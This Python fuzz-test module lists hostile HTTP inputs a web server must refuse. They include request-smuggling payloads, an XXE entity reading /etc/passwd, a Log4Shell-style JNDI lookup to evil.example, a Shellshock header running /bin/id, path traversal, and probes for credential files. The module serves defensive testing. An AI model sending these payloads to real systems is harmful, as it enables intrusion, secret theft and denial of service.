"""Requests that no browser sends: bodies that are too much or broken, headers, smuggled seconds, verbs, paths."""

from collections.abc import Callable, Iterator

from tests.fuzz.wire import END, request

FORM = "Content-Type: application/x-www-form-urlencoded"
PARTS = "Content-Type: multipart/form-data; boundary=X"
MEGABYTE = b"x" * 1_000_000


def _post(content_type: str, body: bytes, *headers: str) -> Callable[[str], list[bytes]]:
    return lambda path: [request("POST", path, content_type, *headers, body=body)]


def _streamed(content_type: str, first: bytes, megabytes: int) -> Callable[[str], list[bytes | Iterator[bytes]]]:
    size = len(first) + megabytes * len(MEGABYTE)
    return lambda path: [
        request("POST", path, content_type, length=size) + first,
        (MEGABYTE for _turn in range(megabytes)),
    ]


def _part(head: str, content: bytes = b"x") -> bytes:
    return b"--X\r\n" + head.encode("latin-1") + END + content + b"\r\n"


def _chunked(chunks: bytes) -> Callable[[str], list[bytes]]:
    head = "POST {} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n" + FORM + "\r\nTransfer-Encoding: chunked"
    return lambda path: [head.format(path).encode() + END + chunks]


FIELD = 'Content-Disposition: form-data; name="name"'
FILE = 'Content-Disposition: form-data; name="file{}"; filename="{}"\r\nContent-Type: text/csv'
END_OF_PARTS = b"--X--\r\n"
# What to send to a path, by what is odd about its body. Each is refused: none has the token of a form.
BODIES = {
    "a field of 30 MB": _streamed(FORM, b"name=", 30),
    "a field of 30 MB in parts": _streamed(PARTS, _part(FIELD), 30),
    "a file of 30 MB": _streamed(PARTS, b"--X\r\n" + FILE.format("", "a.csv").encode() + END, 30),
    "20,000 fields": _post(FORM, b"&".join(b"f%d=x" % number for number in range(20_000))),
    "20,000 fields in parts": _post(PARTS, _part(FIELD) * 20_000 + END_OF_PARTS),
    "500 files": _post(PARTS, b"".join(_part(FILE.format(n, "a.csv")) for n in range(500)) + END_OF_PARTS),
    "a million ampersands": _post(FORM, b"&" * 1_000_000),
    "a million escapes": _post(FORM, b"name=" + b"%41" * 700_000),
    "escapes cut off": _post(FORM, b"%&%4&%zz=%ff&%ED%A0%80=%00"),
    "JSON two million deep": _post("Content-Type: application/json", b"[" * 2_000_000),
    "JSON of half a surrogate": _post("Content-Type: application/json", b'{"a": "\\ud800"}'),
    "a bomb in gzip": _post(FORM, b"\x1f\x8b\x08" + bytes(900), "Content-Encoding: gzip"),
    "no boundary": _post("Content-Type: multipart/form-data", _part(FIELD) + END_OF_PARTS),
    "an empty boundary": _post("Content-Type: multipart/form-data; boundary=", _part(FIELD)),
    "a boundary of 300 signs": _post("Content-Type: multipart/form-data; boundary=" + "b" * 300, _part(FIELD)),
    "a boundary that never comes": _post("Content-Type: multipart/form-data; boundary=Y", _part(FIELD)),
    "a boundary in other letters": _post("Content-Type: multipart/form-data; boundary=\xfc", _part(FIELD)),
    "parts that never end": _post(PARTS, _part(FIELD)),
    "a part without a name": _post(PARTS, _part("Content-Disposition: form-data") + END_OF_PARTS),
    "a part without a head": _post(PARTS, b"--X\r\n\r\n\r\n" + END_OF_PARTS),
    "a part with 9,000 heads": _post(PARTS, _part(FIELD + "\r\nX: y" * 9_000) + END_OF_PARTS),
    "a head of a megabyte": _post(PARTS, _part(FIELD + "; x=" + "y" * 1_000_000) + END_OF_PARTS),
    "a name of a megabyte": _post(PARTS, _part(f'{FIELD[:-5]}{"n" * 1_000_000}"') + END_OF_PARTS),
    "a part in broken base64": _post(
        PARTS, _part(FIELD + "\r\nContent-Transfer-Encoding: base64", b"a") + END_OF_PARTS
    ),
    "a part in an unknown charset": _post(
        PARTS, _part(FIELD + "\r\nContent-Type: text/plain; charset=zz") + END_OF_PARTS
    ),
    "a file that climbs out": _post(PARTS, _part(FILE.format("", "../../../etc/passwd")) + END_OF_PARTS),
    "a file named in NULs": _post(PARTS, _part(FILE.format("", "a\x00.csv")) + END_OF_PARTS),
    "a file named in RFC 5987": _post(PARTS, _part(f"{FIELD}; filename*=zz''%ff%00") + END_OF_PARTS),
    "only dashes": _post(PARTS, b"--" * 500_000),
    "parts in parts": _post(PARTS, _part(FIELD + "\r\nContent-Type: multipart/mixed; boundary=X", _part(FIELD) * 99)),
    "UTF-16": _post(f"{FORM}; charset=utf-16", "name=x".encode("utf-16")),
    "UTF-7": _post(f"{FORM}; charset=utf-7", b"name=+ADw-script+AD4-"),
    "a charset that nobody has": _post(f"{FORM}; charset=no-such-thing", b"name=x"),
    "a charset that is code": _post(f"{FORM}; charset=unicode_escape", b"name=\\ud800"),
    "a charset that is a packer": _post(f"{FORM}; charset=bz2", b"name=x"),
    "no content type": lambda path: [request("POST", path, body=b"name=x")],
    "a content type of 8 kB": _post("Content-Type: " + "a/" * 4_000, b"name=x"),
    "a content type of signs": _post("Content-Type: ;;;=\xff\xfe/;,", b"name=x"),
    "XML with an entity": _post(
        "Content-Type: text/xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    ),
    "a chunk of no size": _chunked(b"zz\r\nname\r\n0\r\n\r\n"),
    "a chunk of less than nothing": _chunked(b"-4\r\nname\r\n0\r\n\r\n"),
    "a chunk of 2^64": _chunked(b"fffffffffffffffff\r\nname=x\r\n0\r\n\r\n"),
    "a chunk with its size in other words": _chunked(b"0x4\r\nname\r\n0\r\n\r\n"),
    "a chunk with an extension of a megabyte": _chunked(b"4;" + b"x" * 1_000_000 + b"\r\nname\r\n0\r\n\r\n"),
    "chunks that never end": _chunked(b"4\r\nname\r\n"),
    "100,000 chunks": _chunked(b"1\r\nx\r\n" * 100_000 + b"0\r\n\r\n"),
    "less than was said": lambda path: [request("POST", path, FORM, body=b"name=x", length=400)],
}

HEADERS = (
    "Cookie: csrf=" + "x" * 8_000,
    "Cookie: " + "; ".join(f"c{number}=x" for number in range(1_500)),
    "Cookie: session=\xff\xfe; csrf=\x7f; =; a; ;;;=",
    'Cookie: session="\\377\\000"; csrf="',
    "Cookie: __Host-session=gASVAAAAAA==; session=../../etc/passwd",
    "Cookie: django_language=zz; messages=[[1,",
    "Accept: " + "*/*;q=nan," * 700,
    "Accept: \xff",
    "Accept-Language: " + "fr-" * 2_000,
    "Accept-Language: zz;q=1e400, ../../x",
    "Accept-Encoding: gzip;q=-1, br;q=x, \xff",
    "Accept-Encoding: " + "gzip," * 1_500,
    "If-None-Match: " + '"x",' * 1_500,
    "If-Modified-Since: Thu, 99 Foo 99999 99:99:99 GMT",
    "If-Modified-Since: 1e400",
    "If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT",
    "Range: bytes=" + "0-1," * 1_500,
    "Range: bytes=9-1",
    "Expect: 100-continue",
    "Expect: miracles",
    "Upgrade: h2c",
    "X-Forwarded-For: " + "1.2.3.4," * 900,
    "X-Forwarded-For: ::ffff:zz, \xff",
    "X-Forwarded-Proto: javascript",
    "X-Forwarded-Host: evil.example",
    "X-Request-ID: ${jndi:ldap://evil.example/a}",
    "X-Request-ID: " + "a" * 8_000,
    "X-Original-URL: /admin/",
    "X-Rewrite-URL: /admin/",
    "X-HTTP-Method-Override: DELETE",
    "Authorization: Basic " + "A" * 4_000,
    "Authorization: Bearer \xff",
    "Referer: javascript:alert(1)",
    "Origin: null",
    "User-Agent: () { :;}; /bin/id",
    "User-Agent: " + "\xf0\x9f\xa6\x84" * 900,
    "Purpose: \x01\x02",
    "Script_Name: /admin",
    "Content-Length: 0",
    "Transfer-Encoding: identity",
    "Host: evil.example",
    "X" * 8_000 + ": y",
    "\r\n".join(f"X-{number}: y" for number in range(200)),
    ": no name",
    "No colon at all",
    "Space before : colon",
    "\xff: \xff",
)

GET = b"GET /livez HTTP/1.1\r\nHost: 127.0.0.1\r\n"
SECOND = b"GET /admin/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
POST = b"POST /submit/ HTTP/1.1\r\nHost: 127.0.0.1\r\n"
# Where one server sees one request and another two: none of them may be answered twice.
SMUGGLED = {
    "length and chunks": POST + b"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + SECOND,
    "chunks and length": POST
    + b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n5c\r\n"
    + SECOND
    + b"\r\n0\r\n\r\n",
    "two lengths": POST + b"Content-Length: 0\r\nContent-Length: 44\r\n\r\n" + SECOND,
    "two lengths in one": POST + b"Content-Length: 0, 44\r\n\r\n" + SECOND,
    "a signed length": POST + b"Content-Length: +0\r\n\r\n" + SECOND,
    "a negative length": POST + b"Content-Length: -1\r\n\r\n" + SECOND,
    "a length of 40 digits": POST + b"Content-Length: " + b"9" * 40 + b"\r\n\r\n" + SECOND,
    "a length in other digits": POST + b"Content-Length: \xd9\xa3\r\n\r\n" + SECOND,
    "a length in hexadecimal": POST + b"Content-Length: 0x2c\r\n\r\n" + SECOND,
    "a length with underscores": POST + b"Content_Length: 44\r\nContent-Length: 4_4\r\n\r\n" + SECOND,
    "chunks twice": POST + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + SECOND,
    "chunks in other words": POST + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + SECOND,
    "chunks with a tab": POST + b"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n" + SECOND,
    "chunks with a space before the colon": POST + b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + SECOND,
    "chunks in HTTP/1.0": POST.replace(b"1.1", b"1.0") + b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + SECOND,
    "a folded header": GET + b"X: a\r\n Transfer-Encoding: chunked\r\n\r\n" + SECOND,
    "a bare line feed": GET.replace(b"\r\n", b"\n") + b"\n" + SECOND,
    "a bare line feed in a header": GET + b"X: a\nContent-Length: 44\r\n\r\n" + SECOND,
    "a bare carriage return": GET + b"X: a\rContent-Length: 44\r\n\r\n" + SECOND,
    "a NUL in a header": GET + b"X: a\x00b\r\n\r\n" + SECOND,
    "two hosts": GET + b"Host: evil.example\r\n\r\n" + SECOND,
    "no host": b"GET /communities/ HTTP/1.1\r\n\r\n" + SECOND,
    "an absolute address elsewhere": b"GET http://evil.example/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    "HTTP/0.9": b"GET /\r\n\r\n",
    "HTTP/9.9": b"GET / HTTP/9.9\r\nHost: 127.0.0.1\r\n\r\n",
    "the preface of HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200) + b"\r\n\r\n",
    "noise": bytes(range(256)) * 20 + b"\r\n\r\n",
    "a proxy's line": b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n" + SECOND,
    "a line of a megabyte": b"GET /" + b"a" * 1_000_000 + b" HTTP/1.1\r\n\r\n",
    "a header of a megabyte": GET + b"X: " + b"a" * 1_000_000 + b"\r\n\r\n",
    "10,000 headers": GET + b"X: a\r\n" * 10_000 + b"\r\n",
    "a footer that is a header": POST + b"Transfer-Encoding: chunked\r\n\r\n0\r\nContent-Length: 44\r\n\r\n" + SECOND,
}
# Everybody sees two requests there, one behind the other: both may be answered, each by itself.
PIPELINED = {"a folded header", "a footer that is a header", "no host"}
UNKNOWN_CODING = 501  # what HTTP has a server say to chunks "in other words"

VERBS = (
    "PUT", "PATCH", "DELETE", "TRACE", "TRACK", "CONNECT", "OPTIONS", "PROPFIND", "MKCOL", "MOVE", "LOCK", "PURGE",
    "DEBUG", "FOO", "get", "GET\x00", "G" * 300, "POST",
)  # fmt: skip

PATHS = (
    "/.env", "/.git/config", "/.git/HEAD", "/.svn/entries", "/.htaccess", "/.DS_Store", "/.ssh/id_rsa",
    "/.aws/credentials",
    "/settings.py", "/copdir/settings.py", "/manage.py", "/requirements.lock", "/var/mail/", "/var/backups/",
    "/static/../copdir/settings.py", "/static/%2e%2e/manage.py", "/static/..%2f..%2fmanage.py", "/static//etc/passwd",
    "/static/%00", "/static/css/../../manage.py", "/..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/etc/passwd", "/..;/admin/",
    "/admin;/", "/admin/..;/", "/%61dmin/submissions/", "//admin/", "/ADMIN/", "/admin.php", "/wp-login.php",
    "/phpmyadmin/", "/server-status", "/actuator/env", "/debug/", "/__debug__/", "/console",
    "/api/communities/../../admin/", "/api/v1/users", "/graphql", "/backup.sql", "/dump.json", "/communities/%ff%fe/",
    "/communities/" + "%2e%2e%2f" * 900, "/communities/%00/", "/fr/../admin/", "/data/2026-01-01/../../manage.py",
    "*", "/\xff\xfe", "/" + "a/" * 3_000,
)  # fmt: skip
TELLS = (
    b"root:",
    b"Traceback",
    b"SECRET_KEY",
    b"DATABASE_URL",
    b"BEGIN RSA",
    b"[core]",
    b"postgresql://",
    b"import os",
)
